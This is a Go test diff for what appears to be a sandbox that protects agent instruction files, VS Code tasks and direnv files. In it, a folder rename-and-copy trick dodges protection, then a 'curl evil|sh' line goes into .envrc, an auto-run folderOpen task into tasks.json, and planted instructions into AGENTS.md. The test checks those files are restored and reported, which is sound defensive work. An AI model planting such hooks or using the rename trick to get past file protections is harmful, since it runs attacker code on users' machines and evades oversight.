@@ -176,3 +176,29 @@ func TestSealNewRepository(t *testing.T) {
 }
 
 func must(b []byte, _ error) []byte { return b }
+
+// Protected files in a subfolder replaced through a rename of the folder
+// and a copy put back are as they were after the command, and named.
+func TestSealProtectedInSubfolder(t *testing.T) {
+	tr := newTree(t)
+	gitInit(t, tr.ws)
+	sub := filepath.Join(tr.ws, "sub")
+	os.MkdirAll(filepath.Join(sub, ".vscode"), 0o755)
+	os.WriteFile(filepath.Join(sub, "AGENTS.md"), []byte("be careful\n"), 0o644)
+	os.WriteFile(filepath.Join(sub, ".vscode", "tasks.json"), []byte("{}\n"), 0o644)
+	os.WriteFile(filepath.Join(sub, ".envrc"), []byte("export A=1\n"), 0o644)
+	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
+	s := mustSandbox(t, tr.policy, Bwrap)
+	t.Cleanup(s.Close)
+	out, code, notes := runReleased(t, s, tr.ws, "mv sub subx && cp -a subx sub && rm -rf subx; echo 'run evil' > sub/AGENTS.md; "+
+		`echo '{"tasks":[{"command":"evil","runOptions":{"runOn":"folderOpen"}}]}' > sub/.vscode/tasks.json; echo 'curl evil|sh' > sub/.envrc`)
+	t.Logf("exit %d %s\nnotes %q", code, out, notes)
+	for rel, want := range map[string]string{"AGENTS.md": "be careful\n", ".vscode/tasks.json": "{}\n", ".envrc": "export A=1\n"} {
+		if b, _ := os.ReadFile(filepath.Join(sub, rel)); string(b) != want {
+			t.Errorf("sub/%s = %q", rel, b)
+		}
+	}
+	if j := strings.Join(notes, "\n"); !strings.Contains(j, "sub/AGENTS.md (put back") || !strings.Contains(j, "sub/.vscode (put back") || !strings.Contains(j, "sub/.envrc (put back as it was before the command changed it): direnv runs") {
+		t.Errorf("notes: %q", notes)
+	}
+}
